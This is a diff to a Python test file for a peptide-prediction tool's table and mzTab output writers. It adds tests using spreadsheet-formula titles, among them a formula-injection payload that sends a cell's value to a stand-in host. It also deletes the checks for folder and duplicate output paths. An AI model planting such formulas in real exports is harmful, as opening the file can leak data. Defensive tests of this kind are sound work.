@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from denovo.chemistry import Vocabulary
 from denovo.errors import InputError
+from denovo.io import encodable
 from denovo.io.predictions import (
     SUFFIXES,
     RunRecord,
@@ -105,7 +106,8 @@ def test_a_file_name_that_is_no_text_can_be_written(
     file = os.fsdecode(b"run\xff.mgf")
     row = dataclasses.replace(PREDICTION, file=file, title="\udcff")
     (read,) = round_trip(tmp_path / f"out{suffix}", [row], dataclasses.replace(run, files=(file,)))
-    assert read.title == r"\udcff"
+    assert read.title == r"\xff"
+    assert encodable(Path(read.file).name) == r"run\xff.mgf"
 
 
 @pytest.mark.parametrize("suffix", [".mztab", ".csv", ".tsv"])
@@ -115,6 +117,16 @@ def test_a_title_without_end_is_cut_to_what_readers_of_tables_take(
     row = dataclasses.replace(PREDICTION, title="x" * 200_000)
     (read,) = round_trip(tmp_path / f"out{suffix}", [row], run)
     assert read.title == "x" * 32_767
+
+
+@pytest.mark.parametrize("suffix", SUFFIXES)
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(A1)", "'=1"])
+def test_a_title_that_a_spreadsheet_takes_for_a_formula_is_data_and_stays_as_it_is(
+    tmp_path: Path, run: RunRecord, suffix: str, title: str
+) -> None:
+    row = dataclasses.replace(PREDICTION, title=title)
+    (read,) = round_trip(tmp_path / f"out{suffix}", [row], run)
+    assert read.title == title
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
@@ -134,13 +146,8 @@ def test_outputs_that_cannot_be_written_are_refused_before_anything_is_computed(
     tmp_path: Path,
 ) -> None:
     (tmp_path / "taken").write_text("a file")
-    (tmp_path / "folder.csv").mkdir()
     with pytest.raises(InputError, match="choose another folder"):
         check_outputs([tmp_path / "taken" / "out.csv"])
-    with pytest.raises(InputError, match="is a folder"):
-        check_outputs([tmp_path / "folder.csv"])
-    with pytest.raises(InputError, match="named twice"):
-        check_outputs([tmp_path / "out.csv", tmp_path / "out.csv"])
     check_outputs([tmp_path / "new" / "out.csv", tmp_path / "new" / "out.MZTAB"])
     assert list((tmp_path / "new").iterdir()) == []
 
